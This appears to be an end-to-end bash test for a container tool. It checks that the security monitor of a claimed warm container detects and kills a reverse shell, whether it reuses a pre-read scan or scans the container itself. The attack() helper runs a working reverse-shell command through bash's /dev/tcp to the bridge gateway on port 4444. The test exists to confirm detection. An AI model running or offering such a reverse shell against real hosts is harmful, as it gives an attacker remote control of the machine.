#!/bin/bash
# SPDX-License-Identifier: MIT
# The supervisor of a claimed warm container (issue 24; monitor/prescan.h): the filler reads the
# container ahead (its init, its programs) before the mark, and the claimer's supervisor takes
# that instead of reading it again, so most of its start is off the claim's path. It must be the
# same monitor: live at the command's first instruction (a reverse shell run as the command is
# killed, as in a cold session), knowing the same programs by their binary as a cold one does. A
# read-ahead that is missing, not whole, or another container's is not used: the supervisor reads
# the container itself and still kills the shell. None is left once the pool is cleaned.
. "$(dirname "$0")/lib.sh"
t_require_daemon
incus image info coi-default >/dev/null 2>&1 || t_bail "coi-default missing (run: tests/e2e/setup)"
[ "$(id -u)" = 0 ] || t_bail "the monitor needs root (proc connector, sock_diag, nflog)"

t_workspace warmmon
printf '[container]\nwarm = 1\n' >"$tmp/c.toml"
export COI_CONFIG=$tmp/c.toml
t_defer "(cd '$ws' && '$COI' clean >/dev/null 2>&1)"
br=$(incus profile device get default eth0 network)
gw=$(incus network get "$br" ipv4.address)
gw=${gw%/*}

warm_names() { t_warm_names "$prefix"; }
wait_warm() { # until one warm container and nothing else of the workspace (bounded, ~90 s)
    local i
    for i in $(seq 180); do
        [ "$(warm_names | wc -l)" -ge 1 ] && [ "$(incus list "$prefix" -c n -f csv | wc -l)" = 1 ] && return 0
        sleep 0.5
    done
    return 1
}
known() { sed -n 's/.*monitor: \([0-9]*\) shells and interpreters known by their binary.*/\1/p' "$COI_HOME/logs/$1.monitor.log" 2>/dev/null | tail -1; }
# attack TAG: a claimed session whose command itself is a reverse shell (the monitor judges its
# exec, the command's first instruction); sets warm (the container claimed), rc (coi's) and line
# (the audit line of revshell-devtcp)
attack() {
    warm=$(warm_names | head -1)
    : >"$COI_HOME/logs/$warm.monitor.log" # (a name comes back: its log is appended to)
    rc=0
    timeout 60 env COI_LOG_LEVEL=debug "$COI" run --image coi-default -- \
        bash -c "bash -i >& /dev/tcp/$gw/4444 0>&1; sleep 20" >"$tmp/$1.out" 2>"$tmp/$1.err" || rc=$?
    line=
    for _ in $(seq 100); do
        line=$(grep '"rule":"revshell-devtcp"' "$COI_HOME/audit/$warm.jsonl" 2>/dev/null | tail -1)
        [ -n "$line" ] && break
        sleep 0.1
    done
}

# ---- a cold session: the pool fills behind it ----
COI_LOG_LEVEL=debug "$COI" run --image coi-default -- true 2>"$tmp/cold.err" && rc=0 || rc=$?
t_is "a cold session runs" "$rc" 0 || t_diag "$(tail -20 "$tmp/cold.err")"
coldknown=$(known "${prefix}1")
t_like "its supervisor scanned the container's programs itself" "$coldknown" '^[1-9][0-9]*$'
t_ok "a warm container is ready behind it" wait_warm
warm=$(warm_names | head -1)
t_ok "its filler read it ahead (~/.coi/run/NAME.prescan)" test -s "$COI_HOME/run/$warm.prescan"
t_is "the read-ahead is this user's alone" "$(stat -c %a "$COI_HOME/run/$warm.prescan")" 600

# ---- claimed: the read-ahead used, the monitor live at the command's first instruction ----
attack hot
t_like "the session claimed it" "$(cat "$tmp/hot.err")" "'$warm': claimed warm"
t_like "its supervisor took the filler's read-ahead" "$(cat "$COI_HOME/logs/$warm.monitor.log")" \
    "from the filler's scan \\(init [0-9]+\\)"
t_is "and knows the programs a cold one knows" "$(known "$warm")" "$coldknown"
t_like "the reverse shell run as the command: CRITICAL, killed" "$line" '"level":"critical".*"action":"killed"'
t_fails "coi run did not succeed" test "$rc" = 0
t_ok "the container is gone" t_wait_gone "$warm"
t_fails "the read-ahead is gone with it" test -e "$COI_HOME/run/$warm.prescan"

# ---- a read-ahead missing, not whole, or another container's: not used, still monitored ----
# spoil HOW FILE: take the read-ahead away, cut it short, or make it name another container (this
# one's init runs: the name tells them apart)
spoil() {
    case $1 in
    missing) rm -f "$2" ;;
    cut) head -c 100 "$2" >"$2.x" && mv "$2.x" "$2" ;;
    other) python3 -c '
import sys
p, a, b = sys.argv[1:]
d = bytearray(open(p, "rb").read())
i = d.index(a.encode() + b"\0")
d[i:i + len(b) + 1] = b.encode() + b"\0"
open(p, "wb").write(d)' "$2" "$3" "${prefix}9" ;;
    esac
}
for c in "missing^No such file or directory" "cut^Bad message" "other^Bad message"; do
    IFS='^' read -r how why <<<"$c"
    t_ok "$how: warm again" wait_warm
    w=$(warm_names | head -1)
    spoil "$how" "$COI_HOME/run/$w.prescan" "$w"
    attack "$how"
    t_like "$how: the session claimed it" "$(cat "$tmp/$how.err")" "'$warm': claimed warm"
    t_like "$how: its supervisor read the container itself" \
        "$(cat "$COI_HOME/logs/$warm.monitor.log")" "no scan of the filler's to use \\($why\\): scanning"
    t_is "$how: and knows the same programs" "$(known "$warm")" "$coldknown"
    t_like "$how: the reverse shell run as the command: CRITICAL, killed" "$line" \
        '"level":"critical".*"action":"killed"'
    t_fails "$how: coi run did not succeed" test "$rc" = 0
done

# ---- coi clean takes the pool and what was read ahead for it ----
t_ok "warm again" wait_warm
warm=$(warm_names | head -1)
t_ok "read ahead" test -s "$COI_HOME/run/$warm.prescan"
"$COI" clean >/dev/null 2>&1
t_ok "coi clean removed the pool" t_wait_ws_clear "$ws"
t_is "and every read-ahead" "$(ls "$COI_HOME/run" | grep -c '\.prescan$' || true)" 0
t_done
